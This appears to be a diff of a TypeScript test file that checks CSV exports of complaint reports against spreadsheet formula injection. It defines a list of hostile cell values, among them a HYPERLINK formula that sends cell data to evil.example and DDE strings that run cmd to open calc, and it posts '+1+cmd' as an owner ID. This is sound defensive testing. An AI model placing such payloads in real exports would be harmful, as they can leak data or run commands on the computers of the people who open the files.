@@ -14,7 +14,7 @@ import { buildReturn, parseReturnPeriod, returnCsv } from '#domain/reporting/ret
 import { kpiCsv, reviewCsv } from '#http/report-csv';
 import { ReportingOptions, ReturnsMapping, type KpiReport, type ReportingConfig, type ReviewRow } from '#schemas/reports';
 import { openedCase } from '../unit/fixtures';
-import { complaintBody, startTestApi, type TestApi } from '../support/api';
+import { settle, startTestApi, validComplaint, type TestApi } from '../support/api';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
@@ -118,10 +118,10 @@ describe('through the API (local stack): the issue’s reproduction, an owner id
 
   it('GET /v1/reports/control-review as text/csv exports the owner as text', async () => {
     const token = await api.token('csv-supervisor', ['supervisor']);
-    const created = await api.call('POST', '/v1/complaints', { token, body: complaintBody({ ownerId: '+1+cmd' }) });
+    const created = await settle(api.client(token).POST('/v1/complaints', { body: validComplaint({ ownerId: '+1+cmd' }) }));
     expect(created.status).toBe(201);
     await api.pump();
-    const res = await api.call('GET', '/v1/reports/control-review?last=1', { token, headers: { accept: 'text/csv' } });
+    const res = await settle(api.client(token).GET('/v1/reports/control-review', { params: { query: { last: 1 } }, headers: { accept: 'text/csv' }, parseAs: 'text' }));
     expect(res.status).toBe(200);
     expectNoFormula(res.text);
     const [header, row] = cells(res.text);
